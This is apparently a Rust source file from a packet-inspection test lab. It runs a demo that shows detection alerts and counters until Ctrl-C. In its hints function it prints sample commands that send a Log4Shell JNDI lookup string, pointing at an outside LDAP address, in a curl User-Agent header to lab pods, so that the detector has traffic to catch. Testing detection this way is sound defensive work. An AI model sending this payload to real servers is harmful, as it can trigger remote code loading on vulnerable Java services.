//! The demo left running: alerts as they come, until Ctrl-C.

use std::{sync::atomic::AtomicBool, time::Duration};

use anyhow::Result;
use dpi_tests::lab::{Agent, Lab};

use crate::{going_on, show};

/// Where a web server listens in `red2`, `blue1` and `blue2`.
pub(crate) fn run(lab: &Lab, agent: &Agent, stop: &AtomicBool) -> Result<()> {
    hints(lab);
    show::heading();
    let mut shown = agent.alerts()?.len();
    let mut seen = 0;
    while going_on(stop).is_ok() {
        for alert in agent.alerts()?.iter().skip(shown) {
            show::alert(alert);
            shown += 1;
        }
        let status = agent.status()?;
        if status.number("/packets/seen") != seen && status.under_way() == 0 {
            seen = status.number("/packets/seen");
            show::counters(&status);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

fn hints(lab: &Lab) {
    show::step("It stays until Ctrl-C. In another terminal, as root:");
    let attack = "curl -A '${jndi:ldap://203.0.113.9/a}'";
    for (from, to) in [("red1", "red2"), ("red1", "blue1"), ("blue1", "blue2")] {
        println!(
            "      nsenter --net=/run/netns/{} {attack} http://{}/",
            lab.pod(from).netns.name(),
            lab.pod(to).ip
        );
    }
    println!(
        "      manifests are in {}: change, add or remove one\n",
        lab.path("manifests").display()
    );
}
